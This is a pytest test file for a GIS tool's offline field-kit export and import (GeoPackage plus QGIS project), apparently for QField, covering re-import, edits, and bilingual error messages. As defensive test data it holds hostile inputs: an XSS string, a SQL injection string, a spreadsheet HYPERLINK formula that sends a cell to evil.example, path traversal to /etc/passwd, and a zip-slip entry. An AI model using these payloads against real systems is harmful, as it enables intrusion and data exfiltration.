"""The offline field kit: export for QField/Mergin Maps, fill it as a phone would, import it
back (twice, and after an edit) through the CLI, on SQLite and PostgreSQL."""

import io
import json
import sqlite3
import uuid as uuidlib
import xml.etree.ElementTree as ET
from datetime import datetime

import geopandas as gpd
import pandas as pd
import pyogrio
import pytest
from PIL import Image
from shapely.geometry import Point

from bidgeo import walk_kit, walks
from bidgeo.demo import ensure_demo
from bidgeo.errors import InputError, ValidationError
from bidgeo.focus import FOCUS_AREAS, KINDS
from bidgeo.photos import photos
from bidgeo.projects import create_project
from test_cli import bidgeo

HOSTILE = ["<script>alert(1)</script>", "'; DROP TABLE observations; --",
           '=HYPERLINK("http://evil.example/?q="&A1,"klicka här")']
U = [str(uuidlib.uuid4()) for _ in range(8)]


def jpeg() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (64, 48), (200, 30, 30)).save(out, "JPEG")
    return out.getvalue()


def observation(uuid, focus_area, kind, rating, comment, point=(26.9465, 60.5225), photo=None, photo_2=None):
    return {"uuid": uuid, "focus_area": focus_area, "kind": kind, "rating": rating, "comment": comment,
            "photo": photo, "photo_2": photo_2, "observed_at": datetime(2026, 5, 12, 10, 30), "author": "Anna",
            "geometry": None if point is None else Point(*point)}


ROWS = [
    observation(U[0], "place_brand", "strength", 4, "Fin torgmiljö", photo="DCIM/torg.jpg"),
    observation(U[1], "offering", "challenge", None, HOSTILE[0], photo_2="DCIM/saknas.jpg"),
    observation(U[2], "place", "idea", 2, HOSTILE[1], point=(26.9470, 60.5230)),
    observation("{" + U[3].upper() + "}", "accessibility", "challenge", 1, HOSTILE[2]),
    observation(U[4], "clean_safe", "strength", 5, 'Rent & "snyggt" – åäö\ntvå rader', photo="../../etc/passwd"),
    observation(U[0], "offering", "idea", 3, "samma uuid igen"),  # repeats row 1
    observation(U[5], "weather", "idea", 3, "fel fokusområde"),
    observation(U[6], "place", "idea", 3, "ingen position", point=None),
    observation("inte-ett-uuid", "place", "idea", 3, "fel id"),
    observation(U[7], "place", "idea", 9, "fel bedömning"),
]
EXPECTED = {U[0]: "Fin torgmiljö", U[1]: HOSTILE[0], U[2]: HOSTILE[1], U[3]: HOSTILE[2],
            U[4]: 'Rent & "snyggt" – åäö\ntvå rader'}


def expected_errors(lang="sv"):
    from bidgeo.i18n import t

    return [
        {"row": 2, "message": t("kit_photo_missing", lang, path="DCIM/saknas.jpg")},
        {"row": 5, "message": t("kit_photo_outside", lang, path="../../etc/passwd")},
        {"row": 6, "message": t("kit_uuid_repeats", lang, uuid=U[0], first=1)},
        {"row": 7, "message": t("bad_choice", lang, field="focus_area", value="weather",
                                choices=", ".join(FOCUS_AREAS))},
        {"row": 8, "message": t("kit_no_position", lang)},
        {"row": 9, "message": t("obs_bad_uuid", lang, value="inte-ett-uuid")},
        {"row": 10, "message": t("obs_bad_rating", lang, value=9)},
    ]


def fill(kit, rows):
    """Add features to the kit's observations layer as QField would."""
    frame = gpd.GeoDataFrame(pd.DataFrame(rows).drop(columns="geometry").astype({"rating": "Int64"}),
                             geometry=[r["geometry"] for r in rows], crs=4326)
    pyogrio.write_dataframe(frame, kit, layer="observations", driver="GPKG", append=True)


def edit_comment(kit, uuid, comment):
    """Change one feature's comment, as a second visit in QField would."""
    con = sqlite3.connect(kit)
    # GDAL's R-tree triggers name these functions; they do not fire for an attribute edit.
    for name in ("ST_IsEmpty", "ST_MinX", "ST_MaxX", "ST_MinY", "ST_MaxY"):
        con.create_function(name, 1, lambda geom: 0)
    with con:
        assert con.execute("UPDATE observations SET comment = ? WHERE uuid = ?", (comment, uuid)).rowcount == 1
    con.close()


@pytest.fixture
def demo(engine):
    return ensure_demo(engine)


def export(tmp_path, database_url, project_id, name="kit.gpkg"):
    kit = tmp_path / "field" / name
    result = bidgeo("walk-kit", "export", project_id, kit, env={"BIDGEO_DATABASE_URL": database_url})
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == str(kit)
    return kit


def test_export_has_the_layers_value_lists_and_a_qgis_project(tmp_path, engine, database_url, demo):
    kit = export(tmp_path, database_url, demo.id)
    layers = dict(pyogrio.list_layers(kit))
    assert layers == {"area": "MultiPolygon", "services": "Point", "observations": "Point"}
    assert len(pyogrio.read_dataframe(kit, layer="services")) == 43
    info = pyogrio.read_info(kit, layer="observations")
    assert info["crs"] == "EPSG:4326" and info["features"] == 0
    assert dict(zip(info["fields"], info["ogr_types"])) == {
        "uuid": "OFTString", "focus_area": "OFTString", "kind": "OFTString", "rating": "OFTInteger64",
        "comment": "OFTString", "photo": "OFTString", "photo_2": "OFTString", "observed_at": "OFTDateTime",
        "author": "OFTString"}

    with sqlite3.connect(kit) as con:
        columns = dict(con.execute("SELECT column_name, constraint_name FROM gpkg_data_columns "
                                   "WHERE table_name = 'observations'").fetchall())
        enums = con.execute("SELECT constraint_name, value, description FROM gpkg_data_column_constraints "
                            "WHERE constraint_type = 'enum' ORDER BY rowid").fetchall()
        rating = con.execute("SELECT min, min_is_inclusive, max, max_is_inclusive FROM gpkg_data_column_constraints "
                             "WHERE constraint_name = ? AND constraint_type = 'range'", (columns["rating"],)).fetchall()
        extensions = con.execute("SELECT table_name, definition, scope FROM gpkg_extensions "
                                 "WHERE extension_name = 'gpkg_schema' ORDER BY table_name").fetchall()
    assert [v for c, v, _ in enums if c == columns["focus_area"]] == list(FOCUS_AREAS)
    assert [v for c, v, _ in enums if c == columns["kind"]] == list(KINDS)
    assert len(enums) == 8
    assert ("bidgeo_focus_area", "clean_safe", "Rent, tryggt och säkert") in enums
    assert ("bidgeo_kind", "idea", "Idé") in enums
    assert rating == [(1, 1, 5, 1)]
    assert extensions == [(t, "http://www.geopackage.org/spec/#extension_schema", "read-write")
                          for t in ("gpkg_data_column_constraints", "gpkg_data_columns")]

    qgs = kit.with_suffix(".qgs")
    root = ET.parse(qgs).getroot()
    assert root.tag == "qgis"
    sources = [e.text for e in root.iter("datasource")]
    assert sources == [f"./kit.gpkg|layername={layer}" for layer in ("observations", "services", "area")]
    form = root.find("projectlayers/maplayer[id='bidgeo_observations']")

    def value_map(field):
        widget = form.find(f"fieldConfiguration/field[@name='{field}']/editWidget")
        assert widget.get("type") == "ValueMap"
        return [(o.get("name"), o.get("value")) for o in widget.iterfind("config/Option/Option[@name='map']/Option/Option")]

    assert value_map("focus_area") == [("Platsvarumärke", "place_brand"), ("Utbud", "offering"), ("Platsen", "place"),
                                       ("Tillgänglighet", "accessibility"), ("Rent, tryggt och säkert", "clean_safe")]
    assert [v for _, v in value_map("kind")] == list(KINDS)
    rating_widget = form.find("fieldConfiguration/field[@name='rating']/editWidget")
    assert rating_widget.get("type") == "Range"
    assert {o.get("name"): o.get("value") for o in rating_widget.iterfind("config/Option/Option")}["Max"] == "5"
    for photo in ("photo", "photo_2"):
        assert form.find(f"fieldConfiguration/field[@name='{photo}']/editWidget").get("type") == "ExternalResource"
    assert form.find("defaults/default[@field='uuid']").get("expression") == "uuid(format:='WithoutBraces')"


def test_a_filled_kit_imports_exactly_once_and_updates_after_an_edit(tmp_path, engine, database_url, demo):
    env = {"BIDGEO_DATABASE_URL": database_url}
    kit = export(tmp_path, database_url, demo.id)
    (kit.parent / "DCIM").mkdir()
    (kit.parent / "DCIM" / "torg.jpg").write_bytes(jpeg())
    fill(kit, ROWS)

    first = bidgeo("walk-kit", "import", demo.id, kit, "--json", env=env)
    assert first.returncode == 1, first.stderr  # some rows had errors; the good ones are in
    report = json.loads(first.stdout)
    assert {k: report[k] for k in ("imported", "updated", "skipped", "errors")} == {
        "imported": 5, "updated": 0, "skipped": 0, "errors": expected_errors()}
    assert report["photos_added"] == 1 and report["rows"] == 10
    assert "vandring" in first.stderr and report["walk_created"] is True
    [walk] = walks.walks(engine, demo.id)
    assert walk.id == report["walk_id"] and walk.focus_group == "Fältkit kit.gpkg"

    def stored():
        table = walks.observations(engine, demo.id)
        return {row.uuid: (row.comment, row.walk_id, row.position_source, row.photos) for row in table.itertuples()}

    after_first = stored()
    assert {u: c for u, (c, *_) in after_first.items()} == EXPECTED
    times = pd.to_datetime(walks.observations(engine, demo.id)["observed_at"], utc=True)
    assert set(times) == {pd.Timestamp(datetime(2026, 5, 12, 10, 30), tz="UTC")}  # the kit's time, not the import's
    assert {(w, s) for _, w, s, _ in after_first.values()} == {(walk.id, "kit")}
    assert after_first[U[0]][3] == 1 and sum(p for *_, p in after_first.values()) == 1
    assert walks.observation(engine, U[3])["focus_area"] == "accessibility"  # braces and case accepted
    assert walks.observation(engine, U[1])["rating"] is None
    assert walks.observation(engine, U[0])["author"] == "Anna"

    again = bidgeo("walk-kit", "import", demo.id, kit, "--json", env=env)
    assert again.returncode == 1
    report = json.loads(again.stdout)
    assert {k: report[k] for k in ("imported", "updated", "skipped", "errors")} == {
        "imported": 0, "updated": 0, "skipped": 5, "errors": expected_errors()}
    assert report["photos_added"] == 0 and report["walk_created"] is False
    assert stored() == after_first
    assert len(walks.walks(engine, demo.id)) == 1
    assert len(photos(engine, demo.id, list(EXPECTED))) == 1

    edit_comment(kit, U[2], "Ändrad i fält <b>")
    edited = bidgeo("walk-kit", "import", demo.id, kit, "--json", env=env)
    report = json.loads(edited.stdout)
    assert (report["imported"], report["updated"], report["skipped"]) == (0, 1, 4)
    assert stored()[U[2]][0] == "Ändrad i fält <b>"
    assert len(stored()) == 5
    assert list(walks.history(engine, U[2])["action"]) == ["create", "update"]


def test_human_output_and_english(tmp_path, engine, database_url, demo):
    env = {"BIDGEO_DATABASE_URL": database_url}
    kit = export(tmp_path, database_url, demo.id)
    fill(kit, ROWS[2:4] + ROWS[6:8])
    result = bidgeo("walk-kit", "import", demo.id, kit, env=env)
    assert result.returncode == 1
    assert result.stdout.strip() == "2 importerade, 0 uppdaterade, 0 oförändrade, 2 fel"
    assert "bidgeo: Rad 3: Ogiltigt värde ”weather” för focus_area." in result.stderr
    assert "bidgeo: Rad 4: Punkten saknar position (ingen geometri)." in result.stderr

    english = bidgeo("walk-kit", "import", demo.id, kit, "--lang", "en", env=env)
    assert english.returncode == 1
    assert english.stdout.strip() == "0 imported, 0 updated, 2 unchanged, 2 errors"
    assert "bidgeo: Row 4: The point has no position (no geometry)." in english.stderr
    assert "New observations are saved in walk" in english.stderr

    good = tmp_path / "good" / "kit.gpkg"
    assert bidgeo("walk-kit", "export", demo.id, good, env=env).returncode == 0
    fill(good, ROWS[2:4])
    clean = bidgeo("walk-kit", "import", demo.id, good, env=env)
    assert clean.returncode == 0, clean.stderr
    assert clean.stdout.strip() == "0 importerade, 0 uppdaterade, 2 oförändrade, 0 fel"


def test_unreadable_kits_exit_2_with_a_clear_message(tmp_path, engine, database_url, demo):
    env = {"BIDGEO_DATABASE_URL": database_url}
    text = tmp_path / "kit.gpkg"
    text.write_text("inte en geopackage", encoding="utf-8")
    result = bidgeo("walk-kit", "import", demo.id, text, env=env)
    assert result.returncode == 2 and result.stdout == ""
    assert result.stderr.strip() == "bidgeo: ”kit.gpkg” kunde inte läsas som en GeoPackage. Välj fältkitets .gpkg-fil."
    english = bidgeo("walk-kit", "import", demo.id, text, "--json", "--lang", "en", env=env)
    assert english.returncode == 2
    assert english.stderr.strip() == ("bidgeo: “kit.gpkg” could not be read as a GeoPackage. "
                                      "Choose the field kit's .gpkg file.")

    other = tmp_path / "other.gpkg"
    gpd.GeoDataFrame({"name": ["x"]}, geometry=[Point(26.9, 60.5)], crs=4326).to_file(other, layer="points")
    result = bidgeo("walk-kit", "import", demo.id, other, env=env)
    assert result.returncode == 2
    assert "”other.gpkg” har inget lager ”observations” (lagren är: points)" in result.stderr

    missing = bidgeo("walk-kit", "import", demo.id, tmp_path / "finns-inte.gpkg", env=env)
    assert missing.returncode == 2 and "finns inte" in missing.stderr
    assert walks.walks(engine, demo.id) == []  # nothing was created for a kit that could not be read

    kit = export(tmp_path, database_url, demo.id)
    wrong_walk = bidgeo("walk-kit", "import", demo.id, kit, "--walk", "999999", env=env)
    assert wrong_walk.returncode == 2 and "999999" in wrong_walk.stderr


def test_export_refuses_to_overwrite_and_needs_a_gpkg_name(tmp_path, engine, database_url, demo):
    env = {"BIDGEO_DATABASE_URL": database_url}
    kit = export(tmp_path, database_url, demo.id)
    fill(kit, ROWS[:1])
    again = bidgeo("walk-kit", "export", demo.id, kit, env=env)
    assert again.returncode == 2 and "--force" in again.stderr
    assert len(pyogrio.read_dataframe(kit, layer="observations")) == 1  # the filled kit is untouched
    forced = bidgeo("walk-kit", "export", demo.id, kit, "--force", env=env)
    assert forced.returncode == 0, forced.stderr
    assert len(pyogrio.read_dataframe(kit, layer="observations")) == 0
    wrong = bidgeo("walk-kit", "export", demo.id, tmp_path / "kit.zip", env=env)
    assert wrong.returncode == 2 and ".gpkg" in wrong.stderr
    assert sorted(p.name for p in kit.parent.iterdir()) == ["kit.gpkg", "kit.qgs"]  # no temporary files left


def test_a_project_without_area_or_services_gets_a_kit_without_area(tmp_path, engine, database_url):
    project = create_project(engine, "Tomby")
    kit = tmp_path / "tomby.gpkg"
    result = bidgeo("walk-kit", "export", "Tomby", kit, env={"BIDGEO_DATABASE_URL": database_url})
    assert result.returncode == 0, result.stderr
    assert "Varning: Projektet ”Tomby” har inget aktuellt område" in result.stderr
    assert dict(pyogrio.list_layers(kit)) == {"services": "Point", "observations": "Point"}
    assert pyogrio.read_info(kit, layer="services")["fields"].tolist() == ["category", "category_label", "name"]
    root = ET.parse(kit.with_suffix(".qgs")).getroot()
    assert [e.text for e in root.iter("datasource")] == ["./tomby.gpkg|layername=observations",
                                                         "./tomby.gpkg|layername=services"]
    fill(kit, ROWS[:1])
    report = walk_kit.import_kit(engine, project.id, kit)
    assert (report.imported, report.walk_created) == (1, True)
    assert [e.key for e in report.errors] == ["kit_photo_missing"]


def test_an_observation_deleted_in_bidgeo_is_not_restored_and_existing_ones_keep_their_walk(tmp_path, engine, demo):
    kit = walk_kit.export_kit(engine, demo.id, tmp_path / "kit.gpkg").gpkg
    fill(kit, ROWS[2:4])
    first = walk_kit.import_kit(engine, demo.id, kit)
    assert first.imported == 2
    walks.delete_observation(engine, U[2])
    later = walks.create_walk(engine, demo.id, datetime(2027, 5, 1).date(), focus_group="Uppföljning")
    fill(kit, [observation(str(uuidlib.uuid4()), "place", "strength", 3, "ny")])
    report = walk_kit.import_kit(engine, demo.id, kit)
    assert (report.imported, report.updated, report.skipped, report.deleted) == (1, 0, 2, 1)
    table = walks.observations(engine, demo.id)
    assert dict(zip(table["comment"], table["walk_id"])) == {HOSTILE[2]: first.walk_id, "ny": later}


def test_photo_paths_stay_inside_the_kit_folder(tmp_path):
    folder = tmp_path / "kit"
    (folder / "DCIM").mkdir(parents=True)
    (folder / "DCIM" / "a.jpg").write_bytes(b"x")
    (tmp_path / "secret.jpg").write_bytes(b"x")
    (folder / "DCIM" / "link.jpg").symlink_to(tmp_path / "secret.jpg")
    assert walk_kit.photo_path(folder, "DCIM/a.jpg") == (folder / "DCIM" / "a.jpg").resolve()
    assert walk_kit.photo_path(folder, "DCIM\\a.jpg") == (folder / "DCIM" / "a.jpg").resolve()
    for bad in ("../secret.jpg", "/etc/passwd", "C:\\Users\\x.jpg", "file:///etc/passwd", "DCIM/../../secret.jpg",
                "DCIM/link.jpg"):
        with pytest.raises(ValidationError) as caught:
            walk_kit.photo_path(folder, bad)
        assert caught.value.key == "kit_photo_outside", bad
    with pytest.raises(ValidationError) as caught:
        walk_kit.photo_path(folder, "DCIM/b.jpg")
    assert caught.value.key == "kit_photo_missing"


def test_read_kit_reprojects_and_needs_the_columns(tmp_path):
    kit = tmp_path / "sweref.gpkg"
    frame = gpd.GeoDataFrame({"uuid": [U[0]], "focus_area": ["place"], "kind": ["idea"]},
                             geometry=[Point(26.9465, 60.5225)], crs=4326).to_crs(3006)
    pyogrio.write_dataframe(frame, kit, layer="observations", driver="GPKG")
    read = walk_kit.read_kit(kit)
    assert read.crs.to_epsg() == 4326
    assert read.geometry[0].x == pytest.approx(26.9465) and read.geometry[0].y == pytest.approx(60.5225)
    bare = tmp_path / "bare.gpkg"
    pyogrio.write_dataframe(frame[["uuid", "geometry"]], bare, layer="observations", driver="GPKG")
    with pytest.raises(InputError) as caught:
        walk_kit.read_kit(bare)
    assert caught.value.key == "kit_no_column" and "focus_area, kind" in caught.value.message()


def test_the_app_kit_zip_and_an_uploaded_kit_folder(engine, tmp_path):
    import zipfile

    demo = ensure_demo(engine)
    walk = walks.create_walk(engine, demo.id, datetime(2026, 5, 12).date(), "Fältgruppen")
    archive = zipfile.ZipFile(io.BytesIO(walk_kit.kit_zip(engine, demo.id)))
    assert sorted(archive.namelist()) == ["faltkit.gpkg", "faltkit.qgs"]
    archive.extractall(tmp_path / "kit")
    kit = tmp_path / "kit" / "faltkit.gpkg"
    fill(kit, ROWS[:3])
    (tmp_path / "kit" / "DCIM").mkdir()
    (tmp_path / "kit" / "DCIM" / "torg.jpg").write_bytes(jpeg())
    upload = io.BytesIO()
    with zipfile.ZipFile(upload, "w") as out:  # the kit's folder, zipped on the tablet
        for path in (tmp_path / "kit").rglob("*"):
            out.write(path, path.relative_to(tmp_path / "kit").as_posix())
    for _ in range(2):  # idempotent
        result = walk_kit.import_upload(engine, demo.id, upload.getvalue(), "faltkit.zip", walk_id=walk)
    assert (result.imported, result.skipped, [e.row for e in result.errors]) == (0, 3, [2])
    stored = walks.observations(engine, demo.id, walk)
    assert set(stored["uuid"]) == {U[0], U[1], U[2]} and stored.set_index("uuid").loc[U[0], "photos"] == 1
    hostile = io.BytesIO()
    with zipfile.ZipFile(hostile, "w") as out:
        out.writestr("../utanfor.gpkg", b"x")
    with pytest.raises(InputError) as error:
        walk_kit.import_upload(engine, demo.id, hostile.getvalue(), "trasig.zip")
    assert error.value.key == "kit_zip_unsafe"
    with pytest.raises(InputError):
        walk_kit.import_upload(engine, demo.id, b"PK not really", "trasig.zip")
    with pytest.raises(InputError):
        walk_kit.import_upload(engine, demo.id, b"x", "anteckningar.txt")
